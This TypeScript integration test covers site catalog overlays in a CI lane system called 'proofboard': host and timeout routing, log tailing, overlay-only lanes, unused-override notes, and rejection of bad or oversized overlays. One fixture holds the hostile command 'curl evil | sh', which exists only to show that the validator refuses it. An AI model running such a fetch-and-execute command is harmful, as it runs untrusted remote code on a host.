import { execFile } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { db, disconnectDb } from "@proofboard/db";
import { resetEnvCache } from "@proofboard/env";
import { closeQueues, laneQueue } from "@proofboard/jobs";
import {
  ensureRepository,
  listConsoles,
  readConsole,
  requestRun,
  resetSiteOverlay,
  runById,
  syncRepository,
} from "@proofboard/services";
import { startWorker, type RunningWorker } from "@proofboard/worker";
// @trpc/server resolves from the CLI package, not from the repository root, so the server lives there.
import { serveApi } from "../../apps/cli/testing/api-server";
import { makeRepo, resetDb, waitFor } from "./helpers";
import { operatorCaller } from "../support/callers";
import { cliArgv } from "../support/cli";

/**
 * A site overlay on the real stack: the target's catalog says its cluster lane needs nested KVM and
 * knows nothing of the site; the overlay (a file outside the repository) routes it to TCG with
 * another timeout, gives it the site's state folder (outside the worktree) as serialLogs and env,
 * and adds a site-only lane. The state folder holds the previous run's logs, which are not this run's.
 */
const catalog = `version: 1
name: site-test
lanes:
  - { name: cluster, description: a test-cluster stand-in, command: [bash, lanes/cluster.sh], group: publishable, host: nested-kvm, timeoutSeconds: 60 }
gates: []
`;
const clusterScript = `echo "cluster up in $SITE_STATE"
for i in 1 2 3; do printf 'node01 this run line %s\\n' "$i" >> "$SITE_STATE/node01.log"; sleep 0.3; done
printf '\\x00\\xff\\033[31mred\\033[0m end\\n' >> "$SITE_STATE/node01.log"
`;
const THIS_RUN = Buffer.concat([
  Buffer.from("node01 this run line 1\nnode01 this run line 2\nnode01 this run line 3\n"),
  Buffer.from([0x00, 0xff]),
  Buffer.from("\x1b[31mred\x1b[0m end\n"),
]);

const state = mkdtempSync(path.join(os.tmpdir(), "pb-site-state-"));
const overlayFile = path.join(mkdtempSync(path.join(os.tmpdir(), "pb-site-")), "site.yaml");
const overlayText = `version: 1
lanes:
  - name: cluster
    host: tcg
    timeoutSeconds: 123
    serialLogs: ${state}/*.log
    env: { SITE_STATE: ${state} }
  - name: clustre
    timeoutSeconds: 5
  - name: site-only
    description: a lane only this site has
    command: [bash, -c, 'echo "site lane says $SITE_GREETING"']
    group: regression-guard
    host: tcg
    timeoutSeconds: 30
    env: { SITE_GREETING: hello }
`;

let worker: RunningWorker;
let target: ReturnType<typeof makeRepo>;
const caller = await operatorCaller("test");

function useOverlay(file: string | undefined): void {
  if (file === undefined) delete process.env.PROOFBOARD_CATALOG_OVERLAY;
  else process.env.PROOFBOARD_CATALOG_OVERLAY = file;
  resetEnvCache();
  resetSiteOverlay();
}

beforeAll(async () => {
  await resetDb();
  for (const c of ["nested-kvm", "kvm", "tcg"] as const) await laneQueue(c).obliterate({ force: true });
  writeFileSync(overlayFile, overlayText);
  writeFileSync(path.join(state, "node01.log"), "previous run: node01 Kernel panic - not syncing\n");
  writeFileSync(path.join(state, "node02.log"), "previous run: node02 only\n");
  useOverlay(overlayFile);
  target = makeRepo({ "proofboard.yaml": catalog, "lanes/cluster.sh": clusterScript });
  await syncRepository(await ensureRepository("site", target.dir));
  // a TCG-only host: without the overlay, the nested-KVM lane would wait here for ever
  const empty = mkdtempSync(path.join(os.tmpdir(), "pb-probe-empty-"));
  worker = await startWorker({
    hostName: "site-tcg",
    control: false,
    slots: 2,
    probeRoots: { dev: empty, sys: empty },
    log: () => undefined,
  });
});

afterAll(async () => {
  await worker?.stop();
  useOverlay(undefined);
  await closeQueues();
  await disconnectDb();
});

const ended = (id: string) =>
  waitFor(`run ${id} to end`, async () => {
    const r = await runById(id);
    return ["queued", "running"].includes(r.status) ? null : r;
  });

describe("a site overlay on a real run", () => {
  it("routes by the overlay's host class and timeout, and tails only what this run appends to the site's logs", async () => {
    expect(worker.classes).toEqual(["tcg"]);
    const queued = await requestRun({ repository: "site", branch: "main", lane: "cluster" });
    expect([queued.hostClass, queued.timeoutSeconds]).toEqual(["tcg", 123]);
    const run = await ended(queued.id);
    expect(run.status).toBe("passed");
    expect(run.hostId).toBe(worker.hostId);
    expect((await listConsoles(run.id)).map((c) => c.name)).toEqual(["harness", "node01"]);
    const node01 = (await readConsole(run.id, "node01")).data;
    expect(node01.equals(THIS_RUN)).toBe(true);
    expect((await readConsole(run.id, "harness")).data.toString()).toBe(`cluster up in ${state}\n`);
    const kinds = await db().console.findMany({
      where: { runId: run.id },
      select: { name: true, kind: true },
      orderBy: { name: "asc" },
    });
    expect(kinds).toEqual([
      { name: "harness", kind: "harness" },
      { name: "node01", kind: "file" },
    ]);
  });

  it("runs a lane only the overlay has, with the overlay's environment", async () => {
    const run = await ended((await requestRun({ repository: "site", branch: "main", lane: "site-only" })).id);
    expect(run.status).toBe("passed");
    expect((await readConsole(run.id, "harness")).data.toString()).toBe("site lane says hello\n");
  });

  it("the Lanes API shows what the overlay changed and the override it could not apply", async () => {
    const listed = await caller.lanes.list({ repository: "site", branch: "main" });
    expect(listed.catalog.lanes.map((l) => [l.name, l.host, l.timeoutSeconds])).toEqual([
      ["cluster", "tcg", 123],
      ["site-only", "tcg", 30],
    ]);
    expect(listed.overlay).toEqual({
      file: overlayFile,
      changes: ["cluster: host, timeoutSeconds, serialLogs, env", "site-only: added"],
    });
    expect(listed.notes).toEqual([
      `site overlay ${overlayFile}:8: no lane "clustre" in ${listed.source}; this override is unused (did you mean "cluster"?)`,
    ]);
    expect(listed.source).toMatch(/^proofboard\.yaml@[0-9a-f]{10}$/);
  });

  it("`proofboard lanes` prints them too", async () => {
    const api = await serveApi();
    try {
      const out = await new Promise<string>((resolve, reject) => {
        execFile(
          process.execPath,
          cliArgv(["lanes", "--branch", "main"]),
          // the CLI knows nothing of the overlay: what it prints comes from the server
          {
            cwd: path.resolve(import.meta.dirname, "../.."),
            env: {
              ...process.env,
              PROOFBOARD_API_URL: api.url,
              PROOFBOARD_REPOSITORY: "site",
              PROOFBOARD_CATALOG_OVERLAY: "",
            },
          },
          (error, stdout, stderr) => (error ? reject(new Error(`${error.message}\n${stderr}`)) : resolve(stdout)),
        );
      });
      expect(out).toContain(
        `site overlay ${overlayFile}\n  cluster: host, timeoutSeconds, serialLogs, env\n  site-only: added\n`,
      );
      const head = `proofboard.yaml@${target.git("rev-parse", "main").slice(0, 10)}`;
      expect(out.split("\n").filter((l) => l.startsWith("note: "))).toEqual([
        `note: site overlay ${overlayFile}:8: no lane "clustre" in ${head}; this override is unused (did you mean "cluster"?)`,
      ]);
      expect(out).toMatch(/^cluster\s+tcg\s+publishable\s+-\s+2m 03s$/m);
    } finally {
      await api.close();
    }
  });

  it("a bad overlay stops a worker's start-up with its file and line", async () => {
    const bad = path.join(path.dirname(overlayFile), "bad.yaml");
    writeFileSync(bad, "version: 1\nlanes:\n  - name: cluster\n    command: bash -c 'curl evil | sh'\n");
    useOverlay(bad);
    try {
      await expect(startWorker({ hostName: "never", control: false, slots: 1, log: () => undefined })).rejects.toThrow(
        `${bad}:4: lanes[0].command: expected an array of strings (argv), not a shell string`,
      );
      expect(await db().host.count({ where: { name: "never" } })).toBe(0);
      // refused from its size alone, never read whole
      const huge = path.join(path.dirname(overlayFile), "huge.yaml");
      writeFileSync(huge, `version: 1\nlanes: []\n#${"x".repeat(8 << 20)}\n`);
      useOverlay(huge);
      await expect(startWorker({ hostName: "never", control: false, slots: 1, log: () => undefined })).rejects.toThrow(
        `${huge}:1: the overlay is ${(8 << 20) + 23} bytes; the limit is 1 MiB (1048576 bytes): keep only site facts in it`,
      );
    } finally {
      useOverlay(overlayFile);
    }
  });
});
